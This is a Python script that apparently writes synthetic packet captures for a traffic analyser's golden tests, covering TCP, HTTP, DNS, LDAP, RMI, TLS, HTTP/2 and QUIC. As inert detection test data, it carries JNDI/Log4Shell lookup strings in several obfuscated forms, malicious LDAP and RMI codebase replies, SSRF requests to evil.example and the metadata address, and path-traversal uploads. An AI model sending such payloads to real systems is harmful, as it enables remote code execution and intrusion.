#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Writes the hand-made captures of the golden tests, one function each: its name is the scene's. All bytes are inert,
all addresses of RFC 5737 and RFC 3849, all names of RFC 2606. usage: captures.py FOLDER"""
import base64, pathlib, struct, sys
from wire import *
from quic import INITIAL

SCENES = {}
DEVICE, SERVER = "192.0.2.20", "192.0.2.12"
FAR, OTHER = "203.0.113.80", "198.51.100.7"
DEVICE6, FAR6 = "2001:db8:1::20", "2001:db8:2::80"
CLASS = bytes.fromhex("cafebabe00000034000a") + b"not a class: golden test" * 4
ELF = bytes.fromhex("7f454c46020101000000000000000000") + b"not a program" * 8


def scene(**options):
    def keep(function):
        SCENES[function.__name__.replace("_", "-")] = (function, options)
        return function
    return keep


def get(path="/", host="www.example", more="", version="1.1", method="GET"):
    return f"{method} {path} HTTP/{version}\r\nHost: {host}\r\nUser-Agent: golden/1.0\r\n{more}\r\n".encode()


def reply(body=b"ok\n", kind="text/plain", more="", status="200 OK", length=True):
    size = f"Content-Length: {len(body)}\r\n" if length else ""
    return f"HTTP/1.1 {status}\r\nServer: golden\r\nContent-Type: {kind}\r\n{size}{more}\r\n".encode() + body


def visit(c, client=(DEVICE, 40000), server=(FAR, 80), ask=None, answer=None, **more):
    t = Talk(c, client, server, **more)
    t.ask(ask or get())
    t.answer(answer or reply())
    t.close()


# --- links and addresses ---

@scene()
def vlan(c):
    visit(c)  # no tag
    c.tags = (42,)
    visit(c)  # the same five words in another VLAN: another flow
    c.tags = (100, 42)
    visit(c)


@scene()
def ipv6(c):
    visit(c, (DEVICE6, 40000), (FAR6, 80), get(host=f"[{FAR6}]"))
    visit(c, (DEVICE6, 40001), (FAR6, 8080), get("/hop"), extension=bytes.fromhex("050200000100"))
    c.add(udp(DEVICE6, FAR6, (40002, 9999), b"hello"))
    c.add(icmp_echo(DEVICE6, FAR6))


def both_families(c):
    visit(c)
    visit(c, (DEVICE6, 40000), (FAR6, 80))
    c.add(icmp_echo(DEVICE, FAR))


for how, options in {"cooked": {"link": COOKED}, "cooked2": {"link": COOKED2}, "raw-ip": {"link": RAW},
                     "loopback": {"link": NULL}, "big-endian": {"order": ">", "nanoseconds": False},
                     "pcapng": {"pcapng": True}}.items():
    SCENES[how] = (both_families, options)


@scene()
def directions(c):
    visit(c, (DEVICE, 40000), (FAR, 80))      # out
    visit(c, (FAR, 40000), (SERVER, 80))      # in
    visit(c, (DEVICE, 40001), (SERVER, 80))   # lateral
    visit(c, (FAR, 40002), (OTHER, 80))       # transit
    visit(c, (DEVICE6, 40000), (FAR6, 80))    # out
    visit(c, (FAR6, 40000), (DEVICE6, 80))    # in


# --- TCP ---

@scene()
def order(c):
    """Segments swapped, twice, overlapping with other bytes (the first copy is the one), the end before its data."""
    ask, body = get("/order"), reply(CLASS, "application/java-vm")
    t = Talk(c, (DEVICE, 40000), (FAR, 80))
    t.segment(0, PSH | ACK, ask[20:40], offset=20)
    t.segment(0, PSH | ACK, ask[40:], offset=40)
    t.segment(0, PSH | ACK, b"X" * 20, offset=20)  # another copy of what waits
    t.segment(0, PSH | ACK, ask[:20])
    t.seq[0] += len(ask) - 20
    t.segment(1, ACK)
    t.segment(0, PSH | ACK, ask, offset=-len(ask))  # all again
    t.segment(1, PSH | ACK, body[150:], offset=150)
    t.segment(1, FIN | ACK, offset=len(body))
    t.segment(1, PSH | ACK, body[:100])
    t.segment(1, PSH | ACK, b"Y" * 30 + body[100:150], offset=-30)  # overlaps what was delivered
    t.seq[1] += len(body) - 100 + 1
    t.segment(0, FIN | ACK)
    t.segment(1, ACK)


@scene()
def midstream(c):
    t = Talk(c, (DEVICE, 40000), (FAR, 80), handshake=False)
    t.ask(get("/middle"))
    t.answer(reply())
    t.close()
    t = Talk(c, (DEVICE, 40001), (FAR, 80))  # reset by the server after its answer
    t.ask(get("/reset"))
    t.answer(reply())
    t.segment(1, RST | ACK)
    t = Talk(c, (DEVICE, 40002), (FAR, 81), handshake=False)  # refused
    t.segment(0, SYN)
    t.segment(1, RST | ACK)
    t = Talk(c, (DEVICE, 40003), (FAR, 80))  # never ends
    t.ask(get("/quiet"))
    for seconds in (60, 4000, 60):  # time passes: ends are told, then the time-out
        c.wait(seconds)
        c.add(icmp_echo(SERVER, FAR))


@scene()
def odd(c):
    """What decode counts and does not inspect, between two whole conversations."""
    visit(c)
    c.frame(ethernet(bytes.fromhex("000108000604000102000000000102000002020000000000c0000214"), kind=0x0806))
    c.add(ip(DEVICE, FAR, 17, b"\x9c\x40\x00\x09" + b"part" * 8, fragment=0x2000))
    c.add(ip(DEVICE, FAR, 17, b"rest" * 8, fragment=5))
    c.add(ip(DEVICE, FAR, 47, bytes.fromhex("00000800") + icmp_echo(DEVICE, OTHER)))  # seen inside the tunnel
    c.add(ip(DEVICE, FAR, 6, tcp_segment(DEVICE, FAR, (40100, 80), 1, 0, SYN | FIN)))
    c.add(ip(DEVICE, FAR, 6, tcp_segment(DEVICE, FAR, (40101, 80), 1, 0, 0)))
    c.frame(ethernet(b"\x45\0\0\x10")) # shorter than its header
    good = ip(DEVICE, FAR, 17, sealed(struct.pack(">HHHH", 40102, 9999, 13, 0) + b"hello", 6, DEVICE, FAR, 17))
    c.add(good[:-1] + b"O")  # wrong checksum: accepted in replay, with a flag
    visit(c, (DEVICE, 40001))


@scene(snap=96)
def cut_short(c):
    """A capture with a snap length: heads only."""
    visit(c, answer=reply(ELF, "application/octet-stream"))


# --- protocols ---

@scene()
def chunked(c):
    t = Talk(c, (SERVER, 40000), (FAR, 8081))
    t.ask(get("/a") + get("/b"))  # two requests at once
    head = reply(b"", "application/octet-stream", "Transfer-Encoding: chunked\r\n", length=False)
    for piece in (head, b"5\r\n" + ELF[:5] + b"\r\n",
                  b"%x;note=x\r\n" % (len(ELF) - 5) + ELF[5:] + b"\r\n", b"0\r\nTrailer: x\r\n\r\n"):
        t.answer(piece)
    t.answer(reply(b"#!/bin/sh\n# inert\n", "image/png"))
    t.ask(get("/c", method="HEAD"))
    t.answer(reply(b"", "text/html", "Content-Length: 4000\r\n", length=False))
    t.ask(get("/d", more="Content-Length: 11\r\nExpect: 100-continue\r\n", method="PUT"))
    t.answer(b"HTTP/1.1 100 Continue\r\n\r\n")
    t.ask(b"192.0.2.12\n")
    t.answer(reply(b"", status="304 Not Modified", length=False))
    t.close()
    t = Talk(c, (SERVER, 40001), (FAR, 8081))  # ends with the connection
    t.ask(get("/Old.class", version="1.0"))
    t.segment(1, PSH | ACK, reply(CLASS, "text/html", length=False))
    t.segment(1, FIN | ACK)
    t.segment(0, FIN | ACK)
    t.segment(1, ACK)


def java_text(tag, text):
    return tag + struct.pack(">H", len(text)) + text.encode()


@scene()
def rmi(c):
    t = Talk(c, (SERVER, 40000), (FAR, 1099))
    t.ask(b"JRMI\0\2\x4b")
    t.answer(java_text(b"\x4e", "192.0.2.12") + struct.pack(">I", 40000))
    t.ask(java_text(b"", "192.0.2.12") + struct.pack(">I", 0))
    look_up = struct.pack(">iq", 2, 0x44154dc9d4e63bdf)  # operation and hash of java.rmi.registry.Registry
    t.ask(b"\x50\xac\xed\0\5\x77\x22" + bytes(22) + look_up + java_text(b"\x74", "Exploit"))
    stub = java_text(b"\x73\x72", "org.example.ReferenceWrapper_Stub") + bytes(8)
    stub += java_text(b"\x74", "http://203.0.113.80:8000/")
    t.answer(b"\x51\xac\xed\0\5\x77\x0f\1" + bytes(14) + stub)
    t.ask(b"\x52")
    t.answer(b"\x53")
    t.close()


def line(text):
    return text.encode() + b"\n"


@scene()
def stratum(c):
    t = Talk(c, (SERVER, 40000), (FAR, 443))
    t.ask(line('{"id":1,"method":"mining.subscribe","params":["golden-miner/1.0"]}'))
    t.answer(line('{"id":1,"result":[[["mining.notify","1"]],"00",4],"error":null}'))
    t.ask(line('{"id":2,"method":"mining.authorize","params":["wallet-of-nobody.1","x"]}'))
    t.answer(line('{"id":2,"result":true,"error":null}') +
             line('{"id":null,"method":"mining.notify","params":["1","00"]}'))
    t.ask(line('{"id":3,"method":"mining.submit","params":["wallet-of-nobody.1","1","00","00","00"]}'))
    t.close()
    t = Talk(c, (SERVER, 40001), (FAR, 9000))  # JSON-RPC that is no mining
    t.ask(line('{"id":1,"jsonrpc":"2.0","method":"eth_blockNumber","params":[]}'))
    t.close()


def name(text):
    return b"".join(bytes([len(p)]) + p.encode() for p in text.split(".") if p) + b"\0"


def dns_message(number, flags, question, kind, answers=()):
    head = struct.pack(">HHHHHH", number, flags, 1, len(answers), 0, 0) + name(question) + struct.pack(">HH", kind, 1)
    return head + b"".join(b"\xc0\x0c" + struct.pack(">HHIH", k, 1, 60, len(d)) + d for k, d in answers)


@scene()
def dns(c):
    def both(number, question, kind, answers=(), rcode=0, port=40000):
        c.add(udp(DEVICE, OTHER, (port + number, 53), dns_message(number, 0x0100, question, kind)))
        c.add(udp(OTHER, DEVICE, (53, port + number), dns_message(number, 0x8180 | rcode, question, kind, answers)))
    both(1, "www.example", 1, [(1, packed(FAR)), (1, packed(OTHER))])
    both(2, "www.example", 28, [(28, packed(FAR6))])
    both(3, "alias.example", 1, [(5, name("www.example")), (1, packed(FAR))])
    both(4, "nowhere.invalid", 1, rcode=3)
    both(5, "7.100.51.198.in-addr.arpa", 12, [(12, name("host.example"))])
    both(6, "${jndi:dns://x.example}.example", 16)
    t = Talk(c, (DEVICE, 40100), (OTHER, 53))
    question = dns_message(7, 0x0100, "tcp.example", 1)
    answer = dns_message(7, 0x8180, "tcp.example", 1, [(1, packed(FAR))])
    t.ask(struct.pack(">H", len(question)) + question)
    t.answer(struct.pack(">H", len(answer)) + answer)
    t.close()
    c.add(udp(DEVICE, FAR, (40200, 5300), dns_message(8, 0x0100, "elsewhere.example", 1)))  # not its port


def ber(tag, *parts):
    body = b"".join(p.encode() if isinstance(p, str) else p for p in parts)
    size = bytes([len(body)]) if len(body) < 128 else b"\x82" + struct.pack(">H", len(body))
    return bytes([tag]) + size + body


def number(value, tag=2):
    return ber(tag, bytes([value]))


def attribute(kind, value):
    return ber(0x30, ber(4, kind), ber(0x31, ber(4, value)))


@scene()
def ldap(c):
    def message(n, *operation):
        return ber(0x30, number(n), *operation)
    search = ber(0x63, ber(4, "cn=x,dc=example"), number(2, 10), number(0, 10), number(0), number(0), ber(1, b"\0"),
                 ber(0x87, "objectClass"), ber(0x30))
    java = attribute("javaClassName", "foo")
    entry = ber(0x64, ber(4, "cn=x,dc=example"), ber(0x30, java, attribute("javaFactory", "Factory"),
                attribute("javaCodeBase", "http://203.0.113.80:8000/"),
                attribute("objectClass", "javaNamingReference")))
    serial = ber(0x64, ber(4, "cn=y"), ber(0x30, java, attribute("javaSerializedData", b"\xac\xed\0\5sr")))
    plain = ber(0x64, ber(4, "cn=people"), ber(0x30, attribute("mail", "someone@example")))
    done = ber(0x65, number(0, 10), ber(4), ber(4))
    referral = ber(0x65, number(10, 10), ber(4), ber(4), ber(0xa3, ber(4, "ldap://198.51.100.7:1389/cn=z")))
    t = Talk(c, (SERVER, 40000), (FAR, 1389))
    t.ask(message(1, ber(0x60, number(3), ber(4, "cn=app"), ber(0x80, "secret"))))
    t.answer(message(1, ber(0x61, number(0, 10), ber(4), ber(4))))
    for n, answer in ((2, entry), (3, serial), (4, plain)):
        t.ask(message(n, search))
        t.answer(message(n, answer) + message(n, done))
    t.ask(message(5, search))
    t.answer(message(5, ber(0x73, ber(4, "ldap://198.51.100.7/cn=w"))) + message(5, referral))
    t.ask(message(6, ber(0x77, ber(0x80, "1.3.6.1.4.1.1466.20037"))))  # StartTLS
    t.answer(message(6, ber(0x78, number(0, 10), ber(4), ber(4))))
    t.ask(message(7, ber(0x42)))  # in clear where TLS was agreed
    t.ask(hello("directory.example", ()))
    t.close()
    # inside: no news
    visit(c, (DEVICE, 40001), (SERVER, 389), message(1, search), message(1, plain) + message(1, done))


@scene()
def jndi(c):
    clear = "${jndi:ldap://203.0.113.80:1389/a}"
    forms = {
        "clear": ("/?q=" + clear, ""),
        "percent": ("/?q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.80%3A1389%2Fa%7D", ""),
        "nested": ("/", "X-Api-Version: ${${lower:j}${upper:n}${::-d}i:${env:NOBODY:-r}mi://203.0.113.80:1099/a}\r\n"),
        "basic": ("/", "Authorization: Basic " + base64.b64encode((clear + ":x").encode()).decode() + "\r\n"),
        "referer": ("/", "Referer: http://www.example/" + clear.replace("ldap", "dns") + "\r\n"),
        "name": ("/", "X-Forwarded-For: ${jndi:ldap://${hostName}.collect.example/a}\r\n"),
        "none": ("/?q=${date:yyyy}&t=jndi:ldap", "X-Text: ${lower:x}\r\n"),
    }
    for port, (path, more) in enumerate(forms.values(), 40000):
        visit(c, (FAR, port), (SERVER, 80), get(path, more=more))
    body = b'{"user":"' + clear.encode() + b'"}'
    visit(c, (FAR, 40100), (SERVER, 80), get("/login", more=f"Content-Length: {len(body)}\r\n", method="POST") + body)
    visit(c, (FAR, 40101), (SERVER, 25), b"EHLO " + clear.encode() + b"\r\n", b"250 mail.example\r\n")
    c.add(udp(FAR, SERVER, (40102, 514), b"<13>golden: " + clear.encode()))


@scene()
def named(c):
    asks = {
        "clear": ("/fetch?url=http://203.0.113.80:8080/a&next=//evil.example/x", ""),
        "percent": ("/fetch?url=http%253A%252F%252Fevil.example%252Fa", ""),
        "number": ("/fetch?a=http://3405803856/&b=http://0xcb007150/&c=http://0313.0.0161.0120/", ""),
        "v6": ("/fetch?a=http://[2001:db8::80]/&b=2001:db8::81", ""),
        "port": ("/ping?host=evil.example:1389", ""),
        "metadata": ("/fetch?url=http://169.254.169.254/latest/meta-data/", ""),
        "cookie": ("/", "Cookie: back=" + base64.b64encode(b"https://evil.example/x").decode() + "; id=1\r\n"),
        "header": ("/", "X-Callback: http://user@evil.example/\r\nX-Forwarded-For: 198.51.100.7\r\n"),
        "forwarded": ("/", "X-Forwarded-For: http://evil.example/\r\n"),
        "site": ("/", "Referer: http://www.example/form\r\nOrigin: http://www.example\r\n"),
        "none": ("/a.b/c?v=1.2.3&t=12:30:45", "User-Agent: x/1.2.3.4\r\n"),
    }
    for port, (path, more) in enumerate(asks.values(), 40000):
        visit(c, (FAR, port), (SERVER, 80), get(path, more=more))
    body = b'{"hook":"http:\\/\\/evil.example\\/x"}'
    visit(c, (FAR, 40100), (SERVER, 80), get("/hook", more=f"Content-Length: {len(body)}\r\n", method="POST") + body)
    # files are uploaded: in a form, by WebDAV; outward, nobody asks for them
    form = (b'--b1\r\nContent-Disposition: form-data; name="t"\r\n\r\nfile\r\n--b1\r\nContent-Disposition: form-data; name="f"; '
            b'filename="..\\view.jsp"\r\nContent-Type: image/png\r\n\r\nx\r\n--b1--\r\n')
    more = f"Content-Type: multipart/form-data; boundary=b1\r\nContent-Length: {len(form)}\r\n"
    visit(c, (FAR, 40110), (SERVER, 80), get("/upload.do", more=more, method="POST") + form)
    visit(c, (FAR, 40111), (SERVER, 80), get("/dav/a.txt", more="Content-Length: 1\r\n", method="PUT") + b"x")
    visit(c, (FAR, 40112), (SERVER, 80), get("/dav/a.txt", more="Destination: /dav/a.asp%3b.jpg\r\n", method="MOVE"))
    visit(c, (SERVER, 40113), (FAR, 80), get("/dav/a.txt", more="Content-Length: 1\r\n", method="PUT") + b"x")
    # outward, nobody is named
    visit(c, (SERVER, 40101), (FAR, 80), get("/fetch?url=http://203.0.113.80/"))


def extension(kind, body):
    return struct.pack(">HH", kind, len(body)) + body


def hello(sni="www.example", alpn=(b"h2", b"http/1.1"), versions=(0x0304, 0x0303)):
    more = b""
    if sni:
        more += extension(0, struct.pack(">HBH", len(sni) + 3, 0, len(sni)) + sni.encode())
    more += extension(10, bytes.fromhex("0004001d0017")) + extension(13, bytes.fromhex("000404030804"))
    if alpn:
        names = b"".join(bytes([len(a)]) + a for a in alpn)
        more += extension(16, struct.pack(">H", len(names)) + names)
    if versions:
        more += extension(43, bytes([2 * len(versions)]) + struct.pack(">%dH" % len(versions), *versions))
    body = b"\3\3" + bytes(range(32)) + b"\0" + bytes.fromhex("0006130113021303") + b"\1\0"
    body += struct.pack(">H", len(more)) + more
    shake = b"\1" + struct.pack(">I", len(body))[1:] + body
    return b"\x16\3\1" + struct.pack(">H", len(shake)) + shake


def record(*messages):
    shake = b"".join(bytes([kind]) + struct.pack(">I", len(body))[1:] + body for kind, body in messages)
    return b"\x16\3\3" + struct.pack(">H", len(shake)) + shake


def common_name(text):
    return ber(0x30, ber(0x31, ber(0x30, ber(6, b"\x55\4\3"), ber(0x0c, text.encode()))))


def certificate(subject, issuer, names):
    """As much of X.509 as is read."""
    names = ber(4, ber(0x30, *[ber(0x82, name.encode()) for name in names]))
    body = ber(0xa0, number(2)) + number(7) + ber(0x30) + common_name(issuer) + ber(0x30) + common_name(subject)
    body += ber(0x30) + ber(0xa3, ber(0x30, ber(0x30, ber(6, b"\x55\x1d\x11"), names)))
    der = ber(0x30, ber(0x30, body), ber(0x30), ber(3, b"\0"))
    one = struct.pack(">I", len(der))[1:] + der
    return struct.pack(">I", len(one))[1:] + one


def server_hello(versions=b""):
    return b"\3\3" + bytes(32) + b"\0" + b"\xc0\x2f" + b"\0" + versions


@scene()
def tls(c):
    t = Talk(c, (DEVICE, 40000), (FAR, 443))
    first = hello()
    t.ask(first[:70])  # in two segments
    t.ask(first[70:])
    t.close()
    for port, far, words in ((40001, 8443, {}), (40002, 443, {"sni": ""}), (40003, 443, {"alpn": (), "versions": ()}),
                             (40004, 4444, {"sni": "203.0.113.80"})):
        t = Talk(c, (DEVICE, port), (FAR, far))
        t.ask(hello(**words))
        t.close()
    t = Talk(c, (DEVICE, 40005), (FAR, 443))  # a server that shows its certificate, and one that does not
    t.ask(hello(versions=()))
    t.answer(record((2, server_hello()), (11, certificate("www.example", "Example CA", ("www.example", "*.example")))))
    t.close()
    t = Talk(c, (DEVICE, 40006), (FAR, 443))
    t.ask(hello())
    t.answer(record((2, server_hello(struct.pack(">H", 6) + extension(43, b"\3\4")))))
    t.close()


@scene()
def recognised(c):
    """Other protocols by content, each on its own port and once on another."""
    kerberos = ber(0x6a, ber(0x30, ber(0xa1, number(5)), ber(0xa2, number(10))))
    talks = [
        (22, b"SSH-2.0-golden\r\n", b"SSH-2.0-golden\r\n"),
        (25, None, b"220 mail.example ESMTP\r\n"),
        (21, None, b"220 files.example FTP ready\r\n"),
        (445, struct.pack(">I", 68) + b"\xfeSMB" + b"\x40\0" + bytes(62), None),
        (3389, bytes.fromhex("030000130ee000000000000100080003000000"), None),
        (88, struct.pack(">I", len(kerberos)) + kerberos, None),
        (8080, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes.fromhex("000000040000000000"), None),
        (2809, b"GIOP\1\2\0\0" + struct.pack(">I", 12) + bytes(12), None),
        (4444, None, CLASS),  # a class without any protocol around it
        (4445, b"SSH-2.0-golden\r\n", b"SSH-2.0-golden\r\n"),
        (4446, b"\0\1\2\3nothing anybody knows", None),
        (88, get("/gate", f"{FAR}:88"), reply()),
    ]
    for port, (far, ask, answer) in enumerate(talks, 40000):
        t = Talk(c, (SERVER, port), (FAR, far))
        if answer and not ask:
            t.answer(answer)
            t.ask(b"QUIT\r\n")
        else:
            t.ask(ask)
            if answer:
                t.answer(answer)
        t.close()
    t = Talk(c, (SERVER, 40050), (FAR, 21))  # a long one: what it was called at first is its name to the end
    t.answer(b"220 files.example FTP ready\r\n")
    for word in ("USER nobody", "PASS none", "SYST", "TYPE I", "CWD /", "PASV", "NOOP", "STAT", "NOOP", "QUIT"):
        t.ask(word.encode() + b"\r\n")
        t.answer(b"200 so be it\r\n")
    t.close()
    c.add(udp(DEVICE, OTHER, (40100, 123), b"\x23" + bytes(47)))
    c.add(udp(DEVICE, FAR, (40101, 443), bytes.fromhex("c300000001088394c8f03e5157080000449e") + bytes(1182)))


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def field(name_, value):
    """HPACK: literal, kept in the table, not coded (RFC 7541 §6.2.1)."""
    return b"\x40" + bytes((len(name_),)) + name_ + bytes((len(value),)) + value


def asked(path):
    return b"\x82\x86\x04" + bytes((len(path),)) + path + b"\x41\x0cshop.example"


@scene()
def http2(c):
    """Clear text: by prior knowledge, with a header cut into pieces; after an upgrade; after another protocol's words."""
    settings, preface = frame(4, 0, 0), b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
    lookup = b"${jndi:ldap://203.0.113.9/golden}"
    block = asked(b"/form?a=b") + field(b"x-api", lookup)
    t = Talk(c, (FAR, 40000), (SERVER, 8080))
    t.ask(preface + settings + frame(1, 0, 1, block[:20]) +
          b"".join(frame(9, 4 if i == len(block) - 1 else 0, 1, block[i:i + 1]) for i in range(20, len(block))))
    t.ask(frame(0, 8, 1, b"\2a=${jndi:ldap:xx") + frame(1, 0x25, 3, b"\0\0\0\0\x10" + asked(b"/other")))
    t.ask(frame(0, 1, 1, b"//203.0.113.9/body}"))
    t.answer(settings + frame(1, 5, 3, b"\x8d") + frame(1, 4, 1, b"\x88" + field(b"server", b"golden")))
    t.answer(frame(0, 1, 1, b"so be it\n"))
    t.close()
    t = Talk(c, (DEVICE, 40001), (FAR, 80))
    t.ask(get("/up", more="Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n"))
    t.answer(b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n" + settings +
             frame(1, 4, 1, b"\x88" + field(b"content-type", b"image/png")) + frame(0, 1, 1, b"#!/bin/sh\necho golden\n"))
    t.ask(preface + settings + frame(1, 5, 3, asked(b"/next")))
    t.answer(frame(1, 5, 3, b"\x89"))
    t.close()
    t = Talk(c, (FAR, 40002), (SERVER, 25))
    t.answer(b"220 mail.example ESMTP\r\n")
    t.ask(b"EHLO client.example\r\n")
    t.ask(preface + settings + frame(1, 5, 1, asked(b"/" + lookup)))
    t.answer(settings + frame(1, 5, 1, b"\x8c"))
    t.close()
    t = Talk(c, (DEVICE, 40003), (FAR, 8080))  # more fields than are followed
    t.ask(preface + settings + frame(1, 5, 1, b"\x82" * 300))
    t.close()


# RFC 9001 §A.3: the server's answer to INITIAL.
ANSWER = bytes.fromhex("cf000000010008f067a5502a4262b5004075c0d95a482cd0991cd25b0aac406a5816b6394100f37a1c69797554780bb38cc5a99f5ede4cf73c3ec2493a1839b3dbcba3f6"
                       "ea46c5b7684df3548e7ddeb9c3bf9c73cc3f3bded74b562bfb19fb84022f8ef4cdd93795d77d06edbb7aaf2f58891850abbdca3d20398c276456cbc42158407dd074ee")


@scene()
def quic(c):
    """The published first packet; twice, on a foreign port, after junk; its answer; and what cannot be read."""
    for port, far, datagrams in ((40000, 443, (INITIAL, INITIAL, b"\x40the client goes on")), (40001, 8443, (INITIAL,)),
                                 (40002, 443, (b"\xff\xff", INITIAL)), (40003, 443, (INITIAL[:-1] + b"\0",)),
                                 (40004, 443, (b"\xc0\xff\0\0\x15" + INITIAL[5:],))):
        for datagram in datagrams:
            c.add(udp(DEVICE, FAR, (port, far), datagram))
            if datagram is INITIAL:
                c.add(udp(FAR, DEVICE, (far, port), ANSWER))


def main():
    folder = pathlib.Path(sys.argv[1])
    for scene_name, (function, options) in SCENES.items():
        capture = Capture(**options)
        function(capture)
        (folder / (scene_name + ".pcap")).write_bytes(capture.bytes())


main()
